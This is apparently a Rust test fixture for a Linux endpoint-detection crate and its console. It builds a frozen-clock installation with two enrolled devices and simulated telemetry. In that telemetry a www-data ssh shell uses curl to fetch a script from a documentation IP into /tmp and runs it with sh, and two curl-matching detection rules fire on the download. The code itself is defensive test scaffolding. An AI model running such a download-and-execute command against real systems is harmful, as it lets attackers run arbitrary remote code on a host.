//! A small installation with a story in it, for tests of this crate and of the console: two devices
//! enrolled through the real door, events and alerts committed to a real lake, a clock that stands still.
//!
//! The story: on `web-01` an ssh session starts a shell, which downloads a script and runs it; two rules
//! match the download. `db-02` only reports that it is there.

mod office;

pub use office::SignedIn;

use crate::limits::{HOUR_NS, MINUTE_NS, SECOND_NS};
use crate::view::detections::Said;
use crate::{Actor, Control, ControlError, Enrolled, RulesSummary, StoreAddress, digest, random};
use lake::{Access, Advance, Commit, Lake};
use model::{
    Alert, AlertId, Class, Clock, Counters, DeviceId, EpochId, Event, EventKind, Fields, Level,
    Lost, LostReason, Observation, StreamKey, Timestamp, Why,
};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};

/// A clock that stands still until it is moved.
#[derive(Debug)]
pub struct StillClock {
    now_ns: AtomicI64,
}

impl StillClock {
    /// A clock that shows an instant.
    #[must_use]
    pub fn at(now: Timestamp) -> Arc<Self> {
        Arc::new(Self { now_ns: AtomicI64::new(now.nanos()) })
    }

    /// Moves the clock.
    pub fn advance_ns(&self, ns: i64) {
        self.now_ns.fetch_add(ns, Ordering::SeqCst);
    }
}

impl Clock for StillClock {
    fn now(&self) -> Timestamp {
        Timestamp::from_nanos(self.now_ns.load(Ordering::SeqCst))
    }

    fn monotonic_ns(&self) -> u64 {
        u64::try_from(self.now_ns.load(Ordering::SeqCst)).unwrap_or(0)
    }
}

/// One agent's stream: gives events the next sequence number.
#[derive(Debug, Clone)]
pub struct Stream {
    /// What enrolment answered.
    pub enrolled: Enrolled,
    /// The stream's epoch.
    pub epoch: EpochId,
    /// The next sequence number.
    pub next_seq: u64,
}

impl Stream {
    /// An event of this stream, seen by the Linux sensor and received a second later.
    pub fn event(&mut self, kind: EventKind, at: Timestamp, fields: Fields) -> Event {
        let seen = Observation { kind, observed_at: at, fields };
        self.observed(seen)
    }

    /// An observation as the next event of this stream.
    pub fn observed(&mut self, seen: Observation) -> Event {
        let agent = self.enrolled.agent;
        let key = StreamKey { agent, epoch: self.epoch, seq: self.next_seq };
        self.next_seq += 1;
        let received_at = seen.observed_at.plus_nanos(SECOND_NS);
        Event::of_linux_agent(seen, self.enrolled.device, key, received_at)
    }
}

/// An installation with a story.
#[derive(Debug)]
pub struct Scene {
    /// The time of everything.
    pub clock: Arc<StillClock>,
    /// The lake, open for writing.
    pub lake: Arc<Lake>,
    /// The use cases.
    pub control: Arc<Control>,
    /// The stream of the device `web-01`.
    pub web: Stream,
    /// The stream of the device `db-02`.
    pub db: Stream,
    /// The alert of level high on the download.
    pub alert: AlertId,
    /// The event of the download.
    pub download: StreamKey,
}

impl Scene {
    /// Makes the installation in an empty folder, with an empty lake.
    ///
    /// # Errors
    /// Those of the use cases and of the lake.
    pub async fn empty(directory: &Path) -> Result<Self, ControlError> {
        Self::empty_at(directory, &StoreAddress::in_folder(directory)).await
    }

    /// The same with the store at another address.
    ///
    /// # Errors
    /// Those of the use cases and of the lake.
    pub async fn empty_at(directory: &Path, store: &StoreAddress) -> Result<Self, ControlError> {
        let now = Timestamp::parse(NOW).map_err(|reason| ControlError::Corrupt {
            what: "time",
            id: NOW.to_owned(),
            reason,
        })?;
        let clock = StillClock::at(now);
        let lake = Arc::new(Lake::open(&directory.join("lake"), Access::Write).await?);
        let rules = RulesSummary {
            loaded: 2,
            refused: vec![crate::view::backtest::RefusedSource {
                file: "broken.yml".to_owned(),
                reason: Said::new("3 行目: detection がありません", "line 3: no detection"),
                lacks: None,
            }],
        };
        let control =
            Control::open_at(directory, store, lake.clone(), rules, clock.clone()).await?;
        let control = Arc::new(control);
        let token = control.issue_enrolment_token(2).await?;
        let web = enrol(&control, &token, "web-01").await?;
        let db = enrol(&control, &token, "db-02").await?;
        let (alert, key) = (AlertId::from_bits(0), StreamKey { seq: 0, ..first_key(&web) });
        Ok(Self { clock, lake, control, web, db, alert, download: key })
    }

    /// Makes the installation in an empty folder, with the story.
    ///
    /// # Errors
    /// Those of the use cases and of the lake.
    pub async fn open(directory: &Path) -> Result<Self, ControlError> {
        Self::open_at(directory, &StoreAddress::in_folder(directory)).await
    }

    /// The same with the store at another address.
    ///
    /// # Errors
    /// Those of the use cases and of the lake.
    pub async fn open_at(directory: &Path, store: &StoreAddress) -> Result<Self, ControlError> {
        let mut scene = Self::empty_at(directory, store).await?;
        let begin = scene.clock.now().plus_nanos(-HOUR_NS);
        let mut events = agent_reports(&mut scene.web, begin);
        events.extend(agent_reports(&mut scene.db, begin));
        let story = download_story(&mut scene.web, begin.plus_nanos(10 * MINUTE_NS));
        let download = story
            .iter()
            .find(|event| event.fields.text("Image") == Some("/usr/bin/curl"))
            .cloned()
            .ok_or_else(|| ControlError::NotFound { what: "event", id: "download".to_owned() })?;
        let high =
            alert_on(&download, "download-and-execute", "Script Downloaded By Curl", Level::High);
        let low =
            alert_on(&download, "curl-by-service-user", "Curl Started In A Session", Level::Low);
        scene.alert = high.id;
        scene.download = download.stream;
        events.extend(story);
        let alerts = vec![high, low];
        scene.commit(events, alerts.clone()).await?;
        scene.control.take_alerts(&alerts).await?;
        Ok(scene)
    }

    /// Commits events, whose sequence numbers must continue their streams, and alerts.
    ///
    /// # Errors
    /// The lake's.
    pub async fn commit(&self, events: Vec<Event>, alerts: Vec<Alert>) -> Result<(), ControlError> {
        let mut advances: Vec<Advance> = Vec::new();
        for event in &events {
            let StreamKey { agent, epoch, seq } = event.stream;
            match advances.iter_mut().find(|known| known.agent == agent && known.epoch == epoch) {
                Some(known) => known.last = seq,
                None => {
                    advances.push(Advance { agent, epoch, first: seq, last: seq, lost: Vec::new() })
                }
            }
        }
        let committed_at = self.clock.now();
        self.lake
            .commit(Commit { events, alerts, advances, committed_at, ..Commit::default() })
            .await?;
        Ok(())
    }

    /// A signed-in administrator.
    ///
    /// # Errors
    /// Those of signing in.
    pub async fn administrator(&self) -> Result<Actor, ControlError> {
        self.control.actor(&self.session_secret().await?).await
    }

    /// The secret of a new session of an administrator.
    ///
    /// # Errors
    /// Those of signing in.
    pub async fn session_secret(&self) -> Result<String, ControlError> {
        let token = self.control.issue_sign_in_token(ADMINISTRATOR).await?;
        Ok(self.control.sign_in(&token).await?.secret)
    }
}

/// A certificate request of a new key that asks for names. The key itself is given as well, in PEM.
///
/// # Errors
/// [`ControlError::Certificates`].
pub fn certificate_request(names: &[&str]) -> Result<(String, String), ControlError> {
    let failed = |err: rcgen::Error| ControlError::Certificates {
        action: "make a certificate request",
        reason: err.to_string(),
    };
    let key = rcgen::KeyPair::generate().map_err(failed)?;
    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
    let params = rcgen::CertificateParams::new(names).map_err(failed)?;
    let request =
        params.serialize_request(&key).and_then(|request| request.pem()).map_err(failed)?;
    Ok((request, key.serialize_pem()))
}

/// Enrols an agent with a new key.
///
/// # Errors
/// Those of [`Control::enrol`].
pub async fn enrol(control: &Control, token: &str, host: &str) -> Result<Stream, ControlError> {
    let (request, _) = certificate_request(&[host])?;
    let enrolled = control.enrol(token, &request, host, "Debian GNU/Linux 12").await?;
    Ok(Stream { enrolled, epoch: EpochId::from_bits(random::id_bits()?), next_seq: 1 })
}

/// An alert of a rule on an event.
#[must_use]
pub fn alert_on(event: &Event, rule_id: &str, title: &str, level: Level) -> Alert {
    let StreamKey { agent, epoch, seq } = event.stream;
    let digest = digest::sha256_hex(format!("{rule_id}/{agent}/{epoch}/{seq}").as_bytes());
    let bits = u128::from_str_radix(digest.get(..32).unwrap_or("0"), 16).unwrap_or(0);
    let image = event.fields.text("Image").unwrap_or_default();
    let rule_text = format!(
        "title: {title}\nid: {rule_id}\nlevel: {}\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    Image|endswith: /curl\n  condition: selection\n",
        level.name()
    );
    Alert {
        id: AlertId::from_bits(bits),
        rule_id: rule_id.to_owned(),
        rule_title: title.to_owned(),
        rule_revision: digest::sha256_hex(rule_text.as_bytes()),
        level,
        device: event.device,
        stream: event.stream,
        kind: event.kind,
        observed_at: event.observed_at,
        detected_at: event.received_at,
        why: vec![Why {
            selection: "selection".to_owned(),
            field: Some("Image".to_owned()),
            modifier: "endswith".to_owned(),
            pattern: "/curl".to_owned(),
            value: Some(image.to_owned()),
        }],
        fields: event.fields.clone(),
        rule_text,
    }
}

/// A process of the story.
#[derive(Debug, Clone, Copy)]
pub struct Program<'a> {
    /// Process id, from which its identity is made.
    pub pid: i64,
    /// The parent's process id.
    pub parent: i64,
    /// Its program.
    pub image: &'a str,
    /// Its arguments, the first being its name.
    pub arguments: &'a [&'a str],
}

/// The fields of a process start, as the Linux sensor names them.
#[must_use]
pub fn process_fields(device: DeviceId, program: &Program<'_>) -> Fields {
    let mut fields = Fields::new();
    fields.set("Image", program.image);
    fields.set("ProcessId", program.pid);
    fields.set("ProcessGuid", process_guid(device, program.pid));
    fields.set("CommandLine", program.arguments.join(" "));
    let arguments = program.arguments.iter().map(|text| model::Value::from(*text)).collect();
    fields.set("Arguments", model::Value::List(arguments));
    fields.set("User", "www-data");
    fields.set("UserId", 33i64);
    fields.set("ParentProcessId", program.parent);
    fields.set("ParentProcessGuid", process_guid(device, program.parent));
    fields
}

/// The identity of a process of the story.
#[must_use]
pub fn process_guid(device: DeviceId, pid: i64) -> String {
    format!("{device}-{pid}")
}

fn first_key(stream: &Stream) -> StreamKey {
    StreamKey { agent: stream.enrolled.agent, epoch: stream.epoch, seq: 1 }
}

fn agent_reports(stream: &mut Stream, begin: Timestamp) -> Vec<Event> {
    let start: Fields = [
        ("AgentVersion", "0.1.0"),
        ("OsName", "Debian GNU/Linux 12"),
        ("KernelVersion", "6.1.0"),
        ("NotRecorded", "file: fanotify is not permitted"),
        ("NotRecordedJa", "ファイル: fanotify が拒否されました。"),
    ]
    .into_iter()
    .collect();
    let lost = Lost {
        class: Some(Class::File),
        count: Some(3),
        reason: LostReason::SourceOverflow,
        from: begin,
        to: begin.plus_nanos(SECOND_NS),
    };
    let mut events = vec![stream.event(EventKind::AgentStart, begin, start)];
    events.push(stream.observed(lost.to_observation(begin.plus_nanos(2 * SECOND_NS))));
    // Earlier counters first: the newest are those that count.
    for (round, seen) in [(1, 4), (2, 10)] {
        let counters = Counters {
            seen,
            submitted: seen,
            received: seen,
            emitted: seen,
            queued: seen,
            ..Counters::default()
        };
        for class in Class::ALL {
            let at = begin.plus_nanos(round * MINUTE_NS);
            events.push(stream.observed(counters.to_observation(class, at)));
        }
    }
    events
}

fn download_story(stream: &mut Stream, begin: Timestamp) -> Vec<Event> {
    let device = stream.enrolled.device;
    let programs = [
        Program {
            pid: 1,
            parent: 0,
            image: "/usr/lib/systemd/systemd",
            arguments: &["/sbin/init"],
        },
        Program { pid: 812, parent: 1, image: "/usr/sbin/sshd", arguments: &["sshd: www-data"] },
        Program { pid: 4001, parent: 812, image: "/usr/bin/bash", arguments: &["-bash"] },
        Program {
            pid: 4010,
            parent: 4001,
            image: "/usr/bin/curl",
            arguments: &["curl", "-s", "-o", "/tmp/100%_new.sh", "http://203.0.113.7/x.sh"],
        },
        Program {
            pid: 4011,
            parent: 4001,
            image: "/usr/bin/sh",
            arguments: &["sh", "/tmp/100%_new.sh"],
        },
    ];
    let mut events = Vec::new();
    let mut at = begin;
    for program in &programs {
        let first = program.pid == 1;
        let kind = if first { EventKind::ProcessRunning } else { EventKind::ProcessStart };
        events.push(stream.event(kind, at, process_fields(device, program)));
        at = at.plus_nanos(SECOND_NS + 7);
    }
    let of_curl = |pairs: &[(&'static str, &str)]| {
        let mut fields = Fields::new();
        fields.set("Image", "/usr/bin/curl");
        fields.set("ProcessId", 4010i64);
        fields.set("ProcessGuid", process_guid(device, 4010));
        for (name, value) in pairs {
            fields.set(*name, *value);
        }
        fields
    };
    let mut connect = of_curl(&[("DestinationIp", "203.0.113.7"), ("Protocol", "tcp")]);
    connect.set("DestinationPort", 80i64);
    events.push(stream.event(EventKind::NetworkConnect, at, connect));
    let file = of_curl(&[("TargetFilename", "/tmp/100%_new.sh")]);
    events.push(stream.event(EventKind::FileCreate, at.plus_nanos(1), file));
    let mut exit = of_curl(&[]);
    exit.set("ExitCode", 0i64);
    events.push(stream.event(EventKind::ProcessExit, at.plus_nanos(SECOND_NS), exit));
    events
}

/// The time at which the story is told.
pub const NOW: &str = "2026-08-21T05:03:22.123456789Z";
/// Who signs in.
pub const ADMINISTRATOR: &str = "administrator";
